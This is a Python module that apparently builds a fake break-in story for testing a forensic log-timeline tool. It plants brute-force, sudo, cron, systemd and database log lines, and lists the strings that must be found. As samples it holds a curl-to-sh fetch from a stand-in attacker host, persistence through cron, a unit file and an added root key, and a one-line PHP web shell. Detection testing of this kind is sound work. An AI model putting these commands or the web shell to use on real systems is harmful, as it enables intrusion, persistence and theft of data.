"""The planted story: how someone broke into web-01 and read the database.

A password guessed over ssh, root by sudo, a script fetched with curl, a cron
file, a systemd unit and an added key to come back, and a web shell. Every step
is written where a real host would write it and noted together with the text
that must turn up in the timeline.
"""

import auditlogs
import databaselogs
import hostfiles
import loginrecords
import syslogs
import weblogs
from clock import END, at
from world import ATTACKER

USER, USER_ID = "backup", 1002
SCRIPT = f"http://{ATTACKER}/i.sh"
SHELL_PATH = "/uploads/avatars/thumb.php"
UNIT_STARTED = "Started sysupdate.service - System update helper."
CRON_FILE, UNIT_FILE = "/etc/cron.d/sysupdate", "/etc/systemd/system/sysupdate.service"
PROGRAM = "/usr/local/lib/.cache/sysupdate"
UNIT = f"""[Unit]
Description=System update helper

[Service]
ExecStart={PROGRAM} -d

[Install]
WantedBy=multi-user.target
"""
BEGIN = at("2026-11-22 02:11:03")
ENTRY = at("2026-11-22 02:19:37")
DUMP = at("2026-11-22 02:52:10")
STEP = 47.25  # seconds between two things the intruder does


class Story:
    """Plants lines into hosts and keeps the list of what must be found."""

    def __init__(self):
        self.planted = []
        self.disk = None

    def note(self, what, needle, data_type):
        """Remember what must be found in the messages of that type."""
        self.planted.append({"disk": self.disk, "what": what, "needle": needle, "data_type": data_type})

    def plant_web_host(self, host, disk):
        """The way in, to root, and to stay."""
        self.disk = disk
        for step in (
            guess_password,
            log_in,
            become_root,
            fetch_script,
            stay_by_cron,
            stay_by_unit,
            stay_by_key,
            use_web_shell,
        ):
            step(self, host)

    def plant_database_host(self, host, disk):
        """What was read afterwards."""
        self.disk = disk
        read_database(self, host)


def auth(host, seconds, tag, text):
    """A line of auth.log that the journal has as well."""
    syslogs.traditional(host.tree, host.world, syslogs.AUTH, seconds, tag, text)
    host.log(seconds, tag, text)


def typed(host, home, seconds, command):
    """A command in a bash history."""
    host.tree.add(f"{home}/.bash_history", seconds, hostfiles.bash(seconds, command))


def guess_password(story, host):
    """Some 170 passwords tried for one account."""
    for number in range(170):
        seconds = BEGIN + number * 3
        text = f"Failed password for {USER} from {ATTACKER} port {40_000 + number * 7} ssh2"
        auth(host, seconds, f"sshd[{21_000 + number}]", text)
        loginrecords.failed(host.tree, host.world, seconds, USER, ATTACKER)
    story.note(
        "ssh brute force", f"Failed password for {USER} from {ATTACKER} port 40007 ssh2", "syslog:line"
    )
    story.note(
        "ssh brute force in the journal",
        f"Failed password for {USER} from {ATTACKER} port 40014 ssh2",
        "systemd:journal",
    )
    story.note("failed log-ins in btmp", f"User: {USER} Hostname: {ATTACKER}", "linux:utmp:event")


def log_in(story, host):
    """The password found."""
    auth(host, ENTRY, "sshd[21180]", f"Accepted password for {USER} from {ATTACKER} port 51122 ssh2")
    auth(
        host,
        ENTRY + 1,
        "sshd[21180]",
        f"pam_unix(sshd:session): session opened for user {USER}(uid={USER_ID}) by (uid=0)",
    )
    host.tree.add(
        loginrecords.WTMP,
        ENTRY + 1,
        loginrecords.record(ENTRY + 1, loginrecords.OPENED, USER, "pts/1", ATTACKER, 21180),
    )
    host.last_logins[USER_ID] = (ENTRY + 1, "pts/1", ATTACKER)
    line = auditlogs.user_login(host.world, USER, ATTACKER, "success")
    auditlogs.record(host.tree, auditlogs.LOG, 90_001, ENTRY, [line], enriched=True)
    story.note(
        "accepted password", f"Successful login of user: {USER} from {ATTACKER}:51122", "syslog:ssh:login"
    )
    story.note(
        "accepted password in the journal",
        f"Accepted password for {USER} from {ATTACKER} port 51122",
        "systemd:journal",
    )
    story.note("session in wtmp", f"User: {USER} Hostname: {ATTACKER} Terminal: pts/1", "linux:utmp:event")
    story.note("log-in in the audit log", f"addr={ATTACKER} terminal=sshd res=success", "selinux:line")


def become_root(story, host):
    """sudo to a root shell."""
    seconds = ENTRY + STEP
    text = f"   {USER} : TTY=pts/1 ; PWD=/home/{USER} ; USER=root ; COMMAND=/bin/bash"
    auth(host, seconds, "sudo", text)
    typed(host, f"/home/{USER}", seconds, "sudo -i bash")
    story.note("sudo to root", text.strip(), "syslog:line")


def fetch_script(story, host):
    """A script from the intruder's server, run at once."""
    seconds = ENTRY + 2 * STEP
    typed(host, "/root", seconds, f"curl -fsSL {SCRIPT} | sh")
    lines = auditlogs.execution(host.world, "curl", "/usr/bin/curl", ["curl", "-fsSL", SCRIPT], USER_ID, USER)
    auditlogs.record(host.tree, auditlogs.LOG, 90_002, seconds, lines, enriched=True)
    story.note(
        "download piped to a shell", f"Command executed: curl -fsSL {SCRIPT} | sh", "bash:history:entry"
    )
    story.note("download in the audit log", f'a0="curl" a1="-fsSL" a2="{SCRIPT}"', "selinux:line")


def stay_by_cron(story, host):
    """A cron file that runs the program every half hour."""
    seconds = ENTRY + 3 * STEP
    host.tree.file(CRON_FILE, f"*/30 * * * * root {PROGRAM} -q\n", seconds)
    host.tree.file(PROGRAM, f"#!/bin/sh\ncurl -fsSL {SCRIPT} | sh\n", seconds, 0o755)
    first = at("2026-11-22 02:30:01")
    for number in range(int((END - first) // 1800)):
        syslogs.traditional(
            host.tree,
            host.world,
            syslogs.CRON,
            first + number * 1800,
            f"CRON[{22_000 + number}]",
            f"(root) CMD ({PROGRAM} -q)",
        )
    story.note("cron file", f"{CRON_FILE} Type: file", "fs:stat")
    story.note(
        "cron runs the program", f"Cron ran: {PROGRAM} -q for user: root pid: 22000", "syslog:cron:task_run"
    )


def stay_by_unit(story, host):
    """A systemd unit that does the same."""
    seconds = ENTRY + 4 * STEP
    host.tree.file(UNIT_FILE, UNIT, seconds)
    host.log(seconds + 1, "systemd[1]", UNIT_STARTED)
    syslogs.iso(host.tree, host.world, syslogs.SYSLOG, seconds + 1, "systemd[1]", UNIT_STARTED)
    story.note("systemd unit file", f"{UNIT_FILE} Type: file", "fs:stat")
    story.note("systemd unit started", UNIT_STARTED, "syslog:line")
    story.note("systemd unit started, in the journal", UNIT_STARTED, "systemd:journal")


def stay_by_key(story, host):
    """A key added for root."""
    seconds = ENTRY + 5 * STEP
    own, added = host.world.base64(68), host.world.base64(68)
    host.tree.file(
        "/root/.ssh/authorized_keys",
        f"ssh-ed25519 {own} root@laptop\nssh-ed25519 {added} u@x\n",
        seconds,
        0o600,
    )
    typed(host, "/root", seconds, f"echo 'ssh-ed25519 {added} u@x' >> /root/.ssh/authorized_keys")
    story.note("key added for root", "u@x' >> /root/.ssh/authorized_keys", "bash:history:entry")
    story.note("key file changed", "/root/.ssh/authorized_keys Type: file", "fs:stat")


def use_web_shell(story, host):
    """A web shell left among the uploads, and used."""
    host.tree.file(f"/var/www/app{SHELL_PATH}", "<?php system($_GET['c']);\n", ENTRY + 6 * STEP, 0o644, 33)
    for number, command in enumerate(("id", "uname+-a", "cat+/var/www/app/.env")):
        weblogs.hit(
            host.tree,
            weblogs.APACHE,
            ENTRY + (7 + number) * STEP,
            ATTACKER,
            f"GET {SHELL_PATH}?c={command} HTTP/1.1",
            200,
            54 + 31 * number,
            "-",
            "curl/8.5.0",
        )
    story.note(
        "web shell used",
        f"http_request: GET {SHELL_PATH}?c=id HTTP/1.1 from: {ATTACKER} code: 200",
        "apache:access_log:entry",
    )


def read_database(story, host):
    """Customers read through the old password of the web host."""
    databaselogs.add(
        host.tree,
        host.world,
        DUMP,
        f"{USER}@shop",
        "FATAL",
        f'password authentication failed for user "{USER}"',
    )
    databaselogs.add(
        host.tree, host.world, DUMP + 22, "shop@shop", "LOG", "statement: COPY public.customers TO STDOUT;"
    )
    weblogs.hit(
        host.tree,
        weblogs.NGINX,
        DUMP + 65,
        ATTACKER,
        "GET /export/customers.csv.gz HTTP/1.1",
        200,
        48_211_733,
        "-",
        "curl/8.5.0",
    )
    story.note(
        "database log-in refused",
        f'password authentication failed for user "{USER}"',
        "postgresql:application_log:entry",
    )
    story.note(
        "customers copied out",
        "statement: COPY public.customers TO STDOUT;",
        "postgresql:application_log:entry",
    )
    story.note(
        "customers downloaded",
        f"http_request: GET /export/customers.csv.gz HTTP/1.1 from: {ATTACKER} code: 200",
        "apache:access_log:entry",
    )
